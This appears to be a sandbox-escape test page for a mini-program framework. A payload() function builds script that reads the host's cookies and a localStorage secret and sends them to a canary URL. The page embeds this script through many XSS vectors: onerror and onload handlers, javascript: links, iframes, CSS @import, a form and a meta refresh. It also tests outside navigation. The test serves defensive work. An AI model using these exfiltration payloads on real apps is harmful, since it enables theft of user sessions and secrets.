// Escapes tried through what the app controls in its page frame: the markup, attributes, rich-text,
// styles, links, web-view. The frame has no app code; each payload below would run script or load
// something only if the frame let it. Any run of a payload calls the canary server at /hit/<name>.

/** Script that reports to the canary with whatever of the host it can read. */
function payload(canary, name) {
  return `(function(){var s='';try{s=parent.document.cookie}catch(e){}try{s+=top.localStorage.getItem('hostSecret')}catch(e){}`
    + `new Image().src='${canary}/hit/${name}?'+encodeURIComponent(s);try{top.location='${canary}/hit/${name}-top'}catch(e){}})()`;
}

Page({
  data: { canary: '', js: {}, html: '', nodes: [], showWebview: false, navResult: '' },
  onLoad(query) {
    const canary = decodeURIComponent(query.canary || '');
    const js = {};
    for (const name of ['img-onerror', 'svg-onload', 'a-javascript', 'iframe-srcdoc', 'image-javascript', 'webview-javascript', 'css-javascript', 'rich-html', 'rich-nodes', 'event-attribute']) {
      js[name.replace(/-(\w)/g, (_, c) => c.toUpperCase())] = payload(canary, name);
    }
    const html = `<img src="/none.png" onerror="${js.richHtml}"><a id="rich-a" href="javascript:${js.richHtml}">rich link</a>`
      + `<iframe src="${canary}/hit/rich-iframe"></iframe><script src="${canary}/hit/rich-script.js"></script>`
      + `<svg><image href="${canary}/hit/rich-svg" onload="${js.richHtml}"/></svg><style>@import url(${canary}/hit/rich-style);</style>`
      + `<form action="${canary}/hit/rich-form" target="_top"><button id="rich-submit">go</button></form>`
      + `<meta http-equiv="refresh" content="0;url=${canary}/hit/rich-meta">`;
    const nodes = [
      { name: 'img', attrs: { src: '/none.png', onerror: js.richNodes } },
      { name: 'a', attrs: { id: 'rich-nodes-a', href: `javascript:${js.richNodes}` }, children: [{ type: 'text', text: 'nodes link' }] },
      { name: 'iframe', attrs: { src: `${canary}/hit/rich-nodes-iframe` } },
      { name: 'div', attrs: { style: `background:url(javascript:${js.richNodes})` } },
    ];
    this.setData({ canary, js, html, nodes });
  },
  showWebview() {
    this.setData({ showWebview: true });
  },
  openExternal() {
    wx.navigateTo({
      url: `${this.data.canary}/hit/navigate-to`,
      success: () => this.setData({ navResult: 'ESCAPED: navigated' }),
      fail: (res) => this.setData({ navResult: `blocked: ${res.errMsg}` }),
    });
  },
  onNavigatorError(event) {
    this.setData({ navResult: `blocked: ${JSON.stringify(event.detail)}` });
  },
});
